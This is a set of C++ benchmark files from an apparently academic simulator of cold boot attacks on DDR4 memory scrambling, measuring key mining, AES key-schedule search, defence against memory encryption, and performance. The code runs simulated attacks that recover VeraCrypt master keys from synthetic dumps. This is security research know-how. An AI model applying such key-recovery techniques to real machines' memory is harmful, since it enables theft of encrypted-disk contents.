        "Expected: wrong placements are almost entirely mod-8"
        " CONGRUENT (round\nconstants differ by 1-2 bits - no cap can"
        " separate them, which is why the\nsearch retries every"
        " congruent placement). The cap's job is keeping\nincongruent"
        " placements at zero even under a generous total budget,\n"
        "and with the cap removed (512) they stay suppressed only"
        " because the\nSubWord checks fail loudly.\n\n");
}

void
ablateEntropyGuard(obs::bench::BenchContext &ctx)
{
    std::printf("A3: entropy guard - how much plaintext it filters "
                "before the litmus\n");
    platform::WorkloadParams wp;
    std::vector<uint8_t> page(wp.page_bytes);
    uint64_t guarded = 0, total = 0;
    const unsigned pages = ctx.pick(512u, 64u);
    for (unsigned p = 0; p < pages; ++p) {
        platform::generatePage(wp, 900, p, page);
        for (size_t off = 0; off + 64 <= page.size(); off += 64) {
            ++total;
            guarded += !plausibleScheduleEntropy({&page[off], 64});
        }
    }
    double guarded_pct = 100.0 * static_cast<double>(guarded) /
                         static_cast<double>(total);
    std::printf("  workload blocks rejected before litmus: %llu of "
                "%llu (%.1f%%)\n",
                static_cast<unsigned long long>(guarded),
                static_cast<unsigned long long>(total), guarded_pct);
    ctx.report("ablation.entropy_guard.rejected_pct", guarded_pct,
               "workload blocks filtered before the litmus test");

    // And it never rejects real schedule material:
    Xoshiro256StarStar rng(901);
    int rejected_real = 0;
    const int schedules = ctx.pick(500, 50);
    for (int t = 0; t < schedules; ++t) {
        std::vector<uint8_t> key(32);
        rng.fillBytes(key);
        auto sched = crypto::aesExpandKey(key);
        for (size_t off = 0; off + 64 <= sched.size(); off += 16)
            rejected_real +=
                !plausibleScheduleEntropy({&sched[off], 64});
    }
    std::printf("  real schedule windows rejected: %d\n\n",
                rejected_real);
    ctx.report("ablation.entropy_guard.rejected_real",
               static_cast<double>(rejected_real),
               "real schedule windows wrongly rejected (want 0)");
}

void
ablatePoolSize(obs::bench::BenchContext &ctx)
{
    std::printf("A4: candidate-pool size vs scan cost (64 KiB dump)\n");
    std::printf("%12s %12s %14s\n", "pool keys", "seconds",
                "rel. cost");
    std::vector<unsigned> pools =
        ctx.smoke() ? std::vector<unsigned>{16u, 256u}
                    : std::vector<unsigned>{16u, 256u, 1024u, 4096u};
    double base = 0;
    for (unsigned pool : pools) {
        auto m = makeMiniDump(1234, std::min(pool, 1024u), 0.0);
        // Pad the pool with keys from other seeds to reach `pool`.
        memctrl::Ddr4Scrambler other(4321, 1);
        unsigned idx = 0;
        while (m.keys.size() < pool) {
            MinedKey mk;
            other.poolKey(idx++ % 4096, mk.key.data());
            mk.occurrences = 2;
            mk.first_offset = 0;
            m.keys.push_back(mk);
        }
        m.keys.resize(pool);
        auto t0 = std::chrono::steady_clock::now();
        SearchStats stats;
        searchAesKeyTables(m.dump, m.keys, {}, &stats);
        double secs = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t0)
                          .count();
        if (base == 0)
            base = secs;
        std::printf("%12u %12.3f %13.1fx\n", pool, secs,
                    secs / base);
        ctx.report("ablation.pool_" + std::to_string(pool) +
                       ".rel_cost",
                   base > 0 ? secs / base : 0.0,
                   "scan cost relative to the 16-key pool");
    }
    std::printf("Expected: cost scales linearly with the pool - the "
                "256x larger DDR4 pool\nis exactly why the paper's "
                "DDR4 attack is so much more expensive than the\n"
                "16-key DDR3 case.\n");
}

} // anonymous namespace

COLDBOOT_BENCH(ablation)
{
    std::printf("Ablations of attack design choices\n\n");
    ablateRepair(ctx);
    ablatePerCheckCap(ctx);
    ablateEntropyGuard(ctx);
    ablatePoolSize(ctx);
}
