/**
 * @file
 * coldboot-lint throughput: full-tree scan cost, cold cache vs warm
 * cache.
 *
 * The incremental cache (tools/lint/cache.hh) exists so the
 * lint_tree ctest and the pre-commit loop stay fast as the tree
 * grows: a warm run should skip lexing, token rules, and parsing for
 * every unchanged file and spend its time only in the cross-TU
 * call-graph passes. This bench measures both runs over the real
 * source tree and reports the speedup; CI asserts the warm run stays
 * under half the cold time, so a cache regression (bad invalidation,
 * serialization bloat) fails loudly instead of quietly making every
 * lint run slow again.
 */

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <string>

#include <unistd.h>

#include "common/logging.hh"
#include "lint/engine.hh"
#include "obs/bench.hh"

using namespace coldboot;
using namespace coldboot::lint;

namespace
{

double
lintOnce(const LintOptions &options, LintResult &result)
{
    auto t0 = std::chrono::steady_clock::now();
    result = lintTree(options);
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

} // anonymous namespace

COLDBOOT_BENCH(lint_tree_cache)
{
#ifndef COLDBOOT_SOURCE_DIR
    std::printf("lint_tree_cache: COLDBOOT_SOURCE_DIR not baked in, "
                "skipping\n");
    (void)ctx;
#else
    namespace fs = std::filesystem;
    fs::path cache = fs::temp_directory_path() /
                     ("coldboot_lint_bench_" +
                      std::to_string(getpid()));
    fs::remove_all(cache);

    LintOptions options;
    options.root = COLDBOOT_SOURCE_DIR;
    options.cache_dir = cache.string();

    LintResult cold_result, warm_result;
    double cold_secs = lintOnce(options, cold_result);
    double warm_secs = lintOnce(options, warm_result);
    fs::remove_all(cache);

    if (cold_result.internal_error || warm_result.internal_error)
        cb_fatal("lint_tree_cache: lintTree failed: %s",
                 cold_result.error_message.c_str());
    if (warm_result.cache_hits != warm_result.files_scanned)
        cb_fatal("lint_tree_cache: warm run had %zu misses",
                 warm_result.cache_misses);
    if (cold_result.findings.size() != warm_result.findings.size())
        cb_fatal("lint_tree_cache: cold and warm findings diverged "
                 "(%zu vs %zu)",
                 cold_result.findings.size(),
                 warm_result.findings.size());

    double speedup =
        warm_secs > 0.0 ? cold_secs / warm_secs : 0.0;
    std::printf("lint_tree_cache: %zu files  cold %.3fs  warm %.3fs "
                "(%.1fx)  analysis %ld ms\n",
                cold_result.files_scanned, cold_secs, warm_secs,
                speedup, warm_result.analysis_ms);

    ctx.report("lint.cold_seconds", cold_secs,
               "full-tree lint, empty cache (lex + rules + parse)");
    ctx.report("lint.warm_seconds", warm_secs,
               "full-tree lint, all artifacts from cache");
    ctx.report("lint.cache_speedup", speedup,
               "cold / warm wall-time ratio");
    ctx.report("lint.analysis_ms",
               static_cast<double>(warm_result.analysis_ms),
               "cross-TU call-graph passes alone");
    ctx.report("lint.files_scanned",
               static_cast<double>(cold_result.files_scanned),
               "files covered by the scan");
    ctx.setBytesProcessed(0);
#endif
}
