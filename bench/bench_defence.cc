/**
 * @file
 * E9 - defence validation: the identical cold boot attack scenario
 * is run against three victim configurations - the stock DDR4
 * scrambler, ChaCha8 memory encryption and AES-128-CTR memory
 * encryption. The scrambled machine must fall; the encrypted
 * machines must yield nothing.
 */

#include <cstdio>
#include <cstring>
#include <memory>
#include <string>

#include "attack/attack_pipeline.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "engine/encrypted_controller.hh"
#include "obs/bench.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

using namespace coldboot;
using namespace coldboot::platform;
using namespace coldboot::attack;

namespace
{

struct Config
{
    const char *label;
    memctrl::ScramblerFactory factory; // empty = stock scrambler
};

void
runConfig(obs::bench::BenchContext &ctx, const Config &config,
          uint64_t seed)
{
    const uint64_t capacity = ctx.pick(MiB(4), MiB(2));
    const uint64_t keytable_addr = capacity * 3 / 4 + 16;
    Machine victim =
        config.factory
            ? Machine(cpuModelByName("i5-6400"), BiosConfig{}, 1,
                      seed, config.factory)
            : Machine(cpuModelByName("i5-6400"), BiosConfig{}, 1,
                      seed);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, capacity,
                              dram::DecayParams{}, seed + 1));
    victim.boot();
    fillWorkload(victim, {}, seed + 2);
    auto vf = volume::VolumeFile::create("pw", 8, seed + 3);
    auto mounted = volume::MountedVolume::mount(victim, vf, "pw",
                                                keytable_addr);
    std::vector<uint8_t> expected(mounted->masterKeys().begin(),
                                  mounted->masterKeys().end());

    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     seed + 4);
    auto cold = coldBootTransfer(victim, attacker, 0);

    PipelineParams params;
    params.search.scan_start = keytable_addr - KiB(64);
    params.search.scan_bytes = KiB(192);
    auto report = runColdBootAttack(cold.dump, params);

    bool recovered = false;
    for (const auto &pair : report.xts_pairs)
        recovered =
            recovered ||
            (std::memcmp(pair.data_key.data(), expected.data(), 32) ==
                 0 &&
             std::memcmp(pair.tweak_key.data(), expected.data() + 32,
                         32) == 0);

    size_t top_occurrence =
        report.mined_keys.empty() ? 0
                                  : report.mined_keys[0].occurrences;
    // coldboot-lint: allow(secret-taint) -- top_occurrence is a cluster count, not key bytes
    std::printf("%-22s mined=%6zu top-cluster=%5zu tables=%zu "
                "master-keys=%s\n",
                config.label, report.mined_keys.size(),
                top_occurrence, report.recovered.size(),
                recovered ? "RECOVERED" : "safe");
    ctx.report(std::string("defence.") + config.label +
                   ".master_keys_recovered",
               recovered ? 1.0 : 0.0,
               "1 when the attack recovered the XTS master keys");
}

} // anonymous namespace

COLDBOOT_BENCH(defence)
{
    std::printf("E9: same attack, three memory protections "
                "(%llu MiB victim, cooled transfer)\n\n",
                static_cast<unsigned long long>(
                    ctx.pick(MiB(4), MiB(2)) >> 20));
    runConfig(ctx, {"ddr4-scrambler", {}}, 7000);
    runConfig(ctx, {"chacha8-encryption",
                    engine::chachaEncryptionFactory(8)},
              7100);
    runConfig(ctx, {"aes128-ctr-encryption",
                    engine::aesCtrEncryptionFactory(16)},
              7200);
    ctx.setBytesProcessed(3 * ctx.pick(MiB(4), MiB(2)));

    std::printf("\nExpected shape: the scrambler falls (master keys "
                "recovered); both strong\ncipher configurations "
                "yield no key tables and no usable key clusters.\n");
}
