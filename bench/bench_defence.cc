/**
 * @file
 * E9 - defence validation: the identical cold boot attack scenario
 * is run against three victim configurations - the stock DDR4
 * scrambler, ChaCha8 memory encryption and AES-128-CTR memory
 * encryption. The scrambled machine must fall; the encrypted
 * machines must yield nothing.
 */

#include <cstdio>
#include <cstring>
#include <memory>
#include <string>

#include "attack/attack_pipeline.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "engine/encrypted_controller.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

using namespace coldboot;
using namespace coldboot::platform;
using namespace coldboot::attack;

namespace
{

struct Config
{
    const char *label;
    memctrl::ScramblerFactory factory; // empty = stock scrambler
};

void
runConfig(const Config &config, uint64_t seed)
{
    Machine victim =
        config.factory
            ? Machine(cpuModelByName("i5-6400"), BiosConfig{}, 1,
                      seed, config.factory)
            : Machine(cpuModelByName("i5-6400"), BiosConfig{}, 1,
                      seed);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, MiB(4),
                              dram::DecayParams{}, seed + 1));
    victim.boot();
    fillWorkload(victim, {}, seed + 2);
    auto vf = volume::VolumeFile::create("pw", 8, seed + 3);
    auto mounted =
        volume::MountedVolume::mount(victim, vf, "pw", MiB(3) + 16);
    std::vector<uint8_t> expected(mounted->masterKeys().begin(),
                                  mounted->masterKeys().end());

    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     seed + 4);
    auto cold = coldBootTransfer(victim, attacker, 0);

    PipelineParams params;
    params.search.scan_start = MiB(3) - KiB(64);
    params.search.scan_bytes = KiB(192);
    auto report = runColdBootAttack(cold.dump, params);

    bool recovered = false;
    for (const auto &pair : report.xts_pairs)
        recovered =
            recovered ||
            (std::memcmp(pair.data_key.data(), expected.data(), 32) ==
                 0 &&
             std::memcmp(pair.tweak_key.data(), expected.data() + 32,
                         32) == 0);

    size_t top_occurrence =
        report.mined_keys.empty() ? 0
                                  : report.mined_keys[0].occurrences;
    std::printf("%-22s mined=%6zu top-cluster=%5zu tables=%zu "
                "master-keys=%s\n",
                config.label, report.mined_keys.size(),
                top_occurrence, report.recovered.size(),
                recovered ? "RECOVERED" : "safe");
}

} // anonymous namespace

int
main()
{
    std::printf("E9: same attack, three memory protections "
                "(4 MiB victim, cooled transfer)\n\n");
    runConfig({"ddr4-scrambler", {}}, 7000);
    runConfig({"chacha8-encryption",
               engine::chachaEncryptionFactory(8)},
              7100);
    runConfig({"aes128-ctr-encryption",
               engine::aesCtrEncryptionFactory(16)},
              7200);

    std::printf("\nExpected shape: the scrambler falls (master keys "
                "recovered); both strong\ncipher configurations "
                "yield no key tables and no usable key clusters.\n");
    return 0;
}
