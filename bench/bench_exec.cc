/**
 * @file
 * Execution-subsystem benches:
 *
 *   exec_scaling  the attack scan kernels (scrambler-key mining +
 *                 AES key-table search) over work-stealing pools of
 *                 1/2/4/N workers on one synthetic scrambled dump,
 *                 verifying the recovered keys are byte-identical at
 *                 every width and reporting per-width throughput and
 *                 the speedup vs. the single-thread baseline;
 *   dump_io       sequential chunked streaming of a dump file
 *                 through the mmap and buffered-pread DumpSource
 *                 backends (checksum-verified against each other),
 *                 reporting MiB/s per backend.
 *
 * Both register into the smoke profile, so smoke_bench_json and
 * `bench_compare --self` gate them like every other bench.
 */

#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "attack/aes_search.hh"
#include "attack/key_miner.hh"
#include "common/rng.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "exec/dump_io.hh"
#include "exec/thread_pool.hh"
#include "memctrl/scrambler.hh"
#include "obs/bench.hh"
#include "platform/memory_image.hh"
#include "simd/simd.hh"

using namespace coldboot;

namespace
{

/**
 * Synthetic scrambled dump: noise, repeated scrambler-key copies
 * (what the miner clusters) and one AES-256 key schedule scrambled
 * under one of those keys (what the search recovers).
 */
platform::MemoryImage
buildDump(size_t bytes, std::vector<uint8_t> &master_out)
{
    platform::MemoryImage dump(bytes);
    Xoshiro256StarStar rng(0xE5EC);
    rng.fillBytes(dump.bytesMutable());
    auto out = dump.bytesMutable();

    memctrl::Ddr4Scrambler scr(0xFEED, 0);
    uint8_t keys[4][64];
    for (unsigned k = 0; k < 4; ++k) {
        scr.poolKey(k * 256, keys[k]);
        // Plant decay-free copies spread across the dump (zero
        // blocks hold the raw key in DRAM).
        for (unsigned copy = 0; copy < 8; ++copy) {
            size_t line = (k * 8 + copy + 3) * 211 % dump.lines();
            std::memcpy(&out[line * 64], keys[k], 64);
        }
    }

    // One AES-256 schedule, 64-byte aligned, scrambled under key 0.
    master_out.assign(32, 0);
    Xoshiro256StarStar key_rng(0xAE5);
    key_rng.fillBytes(master_out);
    auto sched = crypto::aesExpandKey(master_out);
    uint64_t table_off = (dump.lines() / 2) * 64;
    for (size_t i = 0; i < sched.size(); ++i)
        out[table_off + i] = sched[i] ^ keys[0][i % 64];
    return dump;
}

/** Mining + AES search on @p dump; returns the serialized result. */
std::string
scanDump(const platform::MemoryImage &dump)
{
    attack::MinerParams miner_params;
    miner_params.scan_limit_bytes = 0; // whole dump
    auto mined = attack::mineScramblerKeys(dump, miner_params);

    attack::SearchParams search_params;
    auto found = attack::searchAesKeyTables(dump, mined,
                                            search_params);

    std::string serialized;
    for (const auto &mk : mined) {
        serialized.append(reinterpret_cast<const char *>(
                              mk.key.data()), mk.key.size());
        serialized.append(std::to_string(mk.occurrences) + "@" +
                          std::to_string(mk.first_offset) + ";");
    }
    for (const auto &rk : found) {
        serialized.append(reinterpret_cast<const char *>(
                              rk.master.data()), rk.master.size());
        serialized.append("@" + std::to_string(rk.table_offset) +
                          ";");
    }
    return serialized;
}

} // anonymous namespace

COLDBOOT_BENCH(exec_scaling)
{
    const size_t dump_bytes = ctx.pick(MiB(8), MiB(1));
    std::vector<uint8_t> master;
    auto dump = buildDump(dump_bytes, master);

    std::printf("exec: attack-scan scaling over the work-stealing "
                "pool (%zu MiB dump)\n\n",
                dump_bytes >> 20);
    std::printf("%8s %12s %10s %10s %8s\n", "workers", "seconds",
                "MiB/s", "speedup", "steals");

    std::vector<unsigned> widths = {1, 2, 4};
    unsigned native = exec::resolveThreadCount();
    if (native > 4)
        widths.push_back(native);

    std::string reference;
    bool identical = true;
    double serial_secs = 0.0;
    double best_speedup = 0.0;
    for (unsigned w : widths) {
        exec::ThreadPool pool(w);
        exec::ThreadPool::ScopedGlobalOverride ov(pool);
        auto t0 = std::chrono::steady_clock::now();
        std::string result = scanDump(dump);
        double secs = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t0)
                          .count();

        // Determinism contract: every width recovers byte-identical
        // keys (mined and AES) in the same order.
        if (reference.empty()) {
            reference = result;
        } else if (result != reference) {
            identical = false;
            std::printf("!! width %u produced DIFFERENT results\n",
                        w);
        }
        if (w == 1)
            serial_secs = secs;

        double mib_s = secs > 0.0
            ? static_cast<double>(dump_bytes) / (1 << 20) / secs
            : 0.0;
        double speedup =
            secs > 0.0 && serial_secs > 0.0 ? serial_secs / secs
                                            : 0.0;
        best_speedup = std::max(best_speedup, speedup);
        uint64_t steals = pool.stats().steals();
        std::printf("%8u %12.3f %10.1f %9.2fx %8llu\n", w, secs,
                    mib_s, speedup,
                    static_cast<unsigned long long>(steals));

        std::string key =
            "exec_scaling.threads_" + std::to_string(w);
        ctx.report(key + ".mib_per_second", mib_s,
                   "attack-scan throughput at this pool width");
        if (w != 1)
            ctx.report(key + ".speedup", speedup,
                       "vs. the single-worker scan");
    }
    ctx.report("exec_scaling.results_identical",
               identical ? 1.0 : 0.0,
               "1 when every pool width recovered identical keys "
               "(determinism contract)");
    ctx.report("exec_scaling.best_speedup", best_speedup,
               "best parallel speedup over the serial scan");

    // SIMD on/off: the same serial scan with the kernel layer forced
    // to the scalar oracle vs. the runtime-dispatched best backend.
    // Results must stay byte-identical - the backends differ only in
    // speed, never in what they mine.
    std::printf("\n%8s %12s %10s\n", "simd", "seconds", "MiB/s");
    double scalar_secs = 0.0;
    double active_secs = 0.0;
    bool simd_identical = true;
    for (bool scalar : {true, false}) {
        simd::ScopedBackend forced(
            scalar ? simd::Backend::Scalar : simd::activeBackend());
        exec::ThreadPool pool(1);
        exec::ThreadPool::ScopedGlobalOverride ov(pool);
        auto t0 = std::chrono::steady_clock::now();
        std::string result = scanDump(dump);
        double secs = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t0)
                          .count();
        if (result != reference)
            simd_identical = false;
        (scalar ? scalar_secs : active_secs) = secs;
        double mib_s = secs > 0.0
            ? static_cast<double>(dump_bytes) / (1 << 20) / secs
            : 0.0;
        std::printf("%8s %12.3f %10.1f\n",
                    scalar ? "scalar"
                           : simd::backendName(simd::activeBackend()),
                    secs, mib_s);
        ctx.report(std::string("exec_scaling.simd_") +
                       (scalar ? "scalar" : "active") +
                       ".mib_per_second",
                   mib_s, "serial mining throughput, SIMD off/on");
    }
    ctx.report("exec_scaling.simd_speedup",
               scalar_secs > 0.0 && active_secs > 0.0
                   ? scalar_secs / active_secs
                   : 0.0,
               "dispatched backend vs. forced-scalar mining");
    ctx.report("exec_scaling.simd_results_identical",
               simd_identical ? 1.0 : 0.0,
               "1 when scalar and vector scans mined identical keys");
    ctx.setBytesProcessed(
        static_cast<uint64_t>(dump_bytes) * (widths.size() + 2));

    std::printf("\nExpected shape: near-linear scaling up to the "
                "physical core count\n(single-core hosts pin every "
                "width near 1.0x) with identical results\nat every "
                "width.\n");
}

COLDBOOT_BENCH(dump_io)
{
    const size_t file_bytes = ctx.pick(MiB(64), MiB(4));
    const uint64_t chunk_bytes = MiB(1);
    const std::string path = "dump_io.scratch";

    // Write the scratch dump.
    {
        std::vector<uint8_t> block(chunk_bytes);
        Xoshiro256StarStar rng(0xD10);
        std::FILE *f = std::fopen(path.c_str(), "wb");
        if (f == nullptr) {
            std::printf("dump_io: cannot create scratch file; "
                        "skipping\n");
            return;
        }
        for (size_t off = 0; off < file_bytes;
             off += block.size()) {
            rng.fillBytes(block);
            std::fwrite(block.data(), 1, block.size(), f);
        }
        std::fclose(f);
    }

    std::printf("exec: DumpSource streaming backends (%zu MiB "
                "file, %llu KiB chunks)\n\n",
                file_bytes >> 20,
                static_cast<unsigned long long>(chunk_bytes >> 10));
    std::printf("%10s %12s %10s\n", "backend", "seconds", "MiB/s");

    uint64_t reference_sum = 0;
    bool sums_match = true;
    for (auto backend :
         {exec::DumpBackend::Mmap, exec::DumpBackend::Buffered}) {
        auto source = exec::openDumpSource(path, backend);
        exec::ChunkBuffer buf;
        uint64_t sum = 0;
        auto t0 = std::chrono::steady_clock::now();
        for (uint64_t off = 0; off < source->size();
             off += chunk_bytes) {
            uint64_t len =
                std::min<uint64_t>(chunk_bytes,
                                   source->size() - off);
            source->prefetch(off + len, len);
            auto view = source->chunk(off, len, buf);
            // Fold the bytes so the read cannot be optimized out
            // and the backends can be cross-checked.
            for (size_t i = 0; i < view.size(); i += 8) {
                uint64_t word;
                std::memcpy(&word, &view[i], 8);
                sum = sum * 31 + word;
            }
        }
        double secs = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t0)
                          .count();

        if (backend == exec::DumpBackend::Mmap)
            reference_sum = sum;
        else
            sums_match = sums_match && sum == reference_sum;

        double mib_s = secs > 0.0
            ? static_cast<double>(file_bytes) / (1 << 20) / secs
            : 0.0;
        std::printf("%10s %12.3f %10.1f\n", source->backendName(),
                    secs, mib_s);
        ctx.report(std::string("dump_io.") +
                       source->backendName() + ".mib_per_second",
                   mib_s, "sequential chunked read throughput");
    }
    if (!sums_match)
        std::printf("!! backend checksums DIFFER\n");
    ctx.report("dump_io.backends_agree", sums_match ? 1.0 : 0.0,
               "1 when mmap and buffered reads returned identical "
               "bytes");
    ctx.setBytesProcessed(2 * file_bytes);
    std::remove(path.c_str());

    std::printf("\nExpected shape: mmap at memory bandwidth once "
                "cached; buffered pread\nwithin a small factor, both "
                "returning identical bytes.\n");
}
