/**
 * @file
 * E7 - Figure 6: decryption latency vs bandwidth utilization.
 *
 * Runs the burst queueing model for each Table II engine over a
 * utilization sweep on DDR4-2400 and prints the worst keystream
 * latency plus both exposure accountings (see latency_sim.hh). The
 * 12.5 ns minimum CAS window is the line every series is judged
 * against.
 */

#include <cstdio>
#include <string>
#include <vector>

#include "common/units.hh"
#include "dram/bank_timing.hh"
#include "dram/timing.hh"
#include "engine/latency_sim.hh"
#include "obs/bench.hh"

using namespace coldboot;
using namespace coldboot::engine;

COLDBOOT_BENCH(fig6_latency)
{
    const auto &grade = dram::ddr4_2400();
    std::printf("E7: Figure 6 decryption latency vs utilization "
                "(%s, CAS %.2f ns, up to 18 back-to-back CAS)\n\n",
                grade.name.c_str(), psToNs(grade.casLatencyPs()));

    std::vector<double> utils =
        ctx.smoke() ? std::vector<double>{0.2, 0.6, 1.0}
                    : std::vector<double>{0.1, 0.2, 0.3, 0.4, 0.5,
                                          0.6, 0.7, 0.8, 0.9, 1.0};
    auto rows = figure6Sweep(grade, utils);

    // Headline figures as report sections: the full-load point per
    // engine.
    for (const auto &row : rows) {
        if (row.utilization != 1.0)
            continue;
        std::string prefix = std::string("fig6.") +
                             cipherKindName(row.kind);
        ctx.report(prefix + ".max_keystream_latency_ns_u100",
                   psToNs(row.result.max_keystream_latency_ps),
                   "worst keystream latency at 100% utilization");
        ctx.report(prefix + ".max_window_exposure_ns_u100",
                   psToNs(row.result.max_window_exposure_ps),
                   "worst own-window exposure at 100% utilization");
    }

    std::printf("%-10s", "util");
    for (const auto &spec : tableIIEngines())
        std::printf("%12s", cipherKindName(spec.kind));
    std::printf("   (worst keystream latency, ns)\n");
    for (size_t ui = 0; ui < utils.size(); ++ui) {
        std::printf("%9.0f%%", utils[ui] * 100);
        for (size_t e = 0; e < tableIIEngines().size(); ++e) {
            const auto &row = rows[e * utils.size() + ui];
            std::printf("%12.2f",
                        psToNs(row.result.max_keystream_latency_ps));
        }
        std::printf("\n");
    }

    std::printf("\n%-10s", "util");
    for (const auto &spec : tableIIEngines())
        std::printf("%12s", cipherKindName(spec.kind));
    std::printf("   (worst exposure vs own 12.5 ns window, ns)\n");
    for (size_t ui = 0; ui < utils.size(); ++ui) {
        std::printf("%9.0f%%", utils[ui] * 100);
        for (size_t e = 0; e < tableIIEngines().size(); ++e) {
            const auto &row = rows[e * utils.size() + ui];
            std::printf("%12.2f",
                        psToNs(row.result.max_window_exposure_ps));
        }
        std::printf("\n");
    }

    std::printf("\n%-10s", "util");
    for (const auto &spec : tableIIEngines())
        std::printf("%12s", cipherKindName(spec.kind));
    std::printf("   (worst exposure vs bus-serialized data, ns)\n");
    for (size_t ui = 0; ui < utils.size(); ++ui) {
        std::printf("%9.0f%%", utils[ui] * 100);
        for (size_t e = 0; e < tableIIEngines().size(); ++e) {
            const auto &row = rows[e * utils.size() + ui];
            std::printf("%12.2f",
                        psToNs(row.result.max_bus_exposure_ps));
        }
        std::printf("\n");
    }

    // Protocol-grounded cross-check: feed each engine the CAS/data
    // stream of an all-row-hit burst from the bank-level DDR4 timing
    // simulator (commands at tCCD, data bus saturated).
    std::printf("\nProtocol-grounded worst exposure (bank-level "
                "simulator, 64 row-buffer hits):\n");
    auto params = dram::BankTimingParams::forGrade(grade);
    dram::BankTimingSimulator bank_sim(params);
    auto burst = bank_sim.simulateRowHitBurst(ctx.pick(64u, 16u));
    for (const auto &spec : tableIIEngines()) {
        Picoseconds exp = dram::engineExposureOverStream(
            burst, params, spec.periodPs(), spec.depthCycles(),
            spec.counters_per_line);
        std::printf("  %-10s %8.2f ns\n", cipherKindName(spec.kind),
                    psToNs(exp));
    }

    std::printf(
        "\nExpected shape: ChaCha8 stays below the 12.5 ns window at"
        " every load (zero\nexposed latency); AES-128/AES-256 are"
        " fastest at low load but the 4-counter\nfan-out queues them"
        " as utilization approaches the back-to-back limit;\nChaCha12"
        " and ChaCha20 sit above the window at every load. Under the"
        "\nprotocol-limited command rate (one CAS per tCCD) even AES"
        " hides fully -\nthe paper's AES queueing penalty needs"
        " command bursts faster than the\ndata bus can serve.\n");
}
