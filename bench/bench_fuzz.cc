/**
 * @file
 * Fuzzing-harness bench: throughput of a smoke-profile campaign over
 * the full oracle catalogue (cases/second is the number that sizes
 * the CI fuzz-smoke seed range), plus the determinism contract
 * re-checked between the serial path and a dedicated pool.
 */

#include <cstdio>
#include <string>

#include "fuzz/harness.hh"
#include "obs/bench.hh"

using namespace coldboot;

COLDBOOT_BENCH(fuzz_campaign)
{
    fuzz::CampaignConfig config;
    config.seed_begin = 0;
    config.seed_end = ctx.pick(uint64_t(48), uint64_t(12));
    config.profile = fuzz::CampaignConfig::Profile::Smoke;
    config.energy = 2;

    fuzz::CampaignReport report = fuzz::runCampaign(config);

    std::printf("fuzz: smoke campaign over seeds [0, %llu): %llu "
                "cases, %llu violations\n\n",
                static_cast<unsigned long long>(config.seed_end),
                static_cast<unsigned long long>(report.total_cases),
                static_cast<unsigned long long>(
                    report.total_violations));
    std::printf("%-26s %8s %10s %9s\n", "oracle", "cases",
                "features", "phase2");

    uint64_t features = 0;
    for (const auto &o : report.oracles) {
        std::printf("%-26s %8llu %10llu %9llu\n", o.name.c_str(),
                    static_cast<unsigned long long>(o.cases),
                    static_cast<unsigned long long>(
                        o.distinct_features),
                    static_cast<unsigned long long>(o.phase2_cases));
        features += o.distinct_features;
    }

    // Same campaign through a dedicated pool: the report must be
    // byte-identical (the property the CI fuzz-smoke job diffs).
    fuzz::CampaignConfig pooled = config;
    pooled.threads = 4;
    bool identical =
        fuzz::runCampaign(pooled).toJson() == report.toJson();
    if (!identical)
        std::printf("!! 4-worker campaign produced a DIFFERENT "
                    "report\n");

    ctx.report("fuzz_campaign.cases",
               static_cast<double>(report.total_cases),
               "oracle cases run by the smoke campaign");
    ctx.report("fuzz_campaign.violations",
               static_cast<double>(report.total_violations),
               "property violations found (0 on a healthy tree)");
    ctx.report("fuzz_campaign.distinct_features",
               static_cast<double>(features),
               "coverage features discovered across all oracles");
    ctx.report("fuzz_campaign.report_identical_across_pools",
               identical ? 1.0 : 0.0,
               "1 when serial and 4-worker reports are "
               "byte-identical (determinism contract)");
    ctx.setItemsProcessed(report.total_cases * 2);

    std::printf("\nExpected shape: zero violations, a few hundred "
                "distinct features,\nand byte-identical reports at "
                "every pool width.\n");
}
