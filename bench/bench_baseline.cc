/**
 * @file
 * Baseline comparison: the classic Halderman (2008) sliding-window
 * key search versus the paper's block-wise litmus attack, across
 * memory-protection eras:
 *
 *   DDR2-era plaintext dump      -> baseline works
 *   DDR3 dump + universal key    -> baseline works after descramble
 *   scrambled DDR4 dump          -> baseline fails; the paper's
 *                                   attack succeeds
 *
 * This is the motivating gap of Section III in one table.
 */

#include <cstdio>
#include <cstring>
#include <memory>
#include <vector>

#include "attack/attack_pipeline.hh"
#include "attack/ddr3_attack.hh"
#include "attack/halderman_search.hh"
#include "common/logging.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "dram/dram_module.hh"
#include "obs/bench.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

using namespace coldboot;
using namespace coldboot::platform;

namespace
{

struct Scenario
{
    const char *label;
    const char *key;
    const char *cpu;
    bool descramble_ddr3;
};

void
run(obs::bench::BenchContext &ctx, const Scenario &sc, uint64_t seed)
{
    const uint64_t capacity = ctx.pick(MiB(4), MiB(2));
    const uint64_t keytable_addr = capacity * 3 / 4 + 16;
    Machine victim(cpuModelByName(sc.cpu), BiosConfig{}, 1, seed);
    bool ddr4 = memctrl::cpuUsesDdr4(victim.model().generation);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              ddr4 ? dram::Generation::DDR4
                                   : dram::Generation::DDR3,
                              capacity, dram::DecayParams{},
                              seed + 1));
    victim.boot();
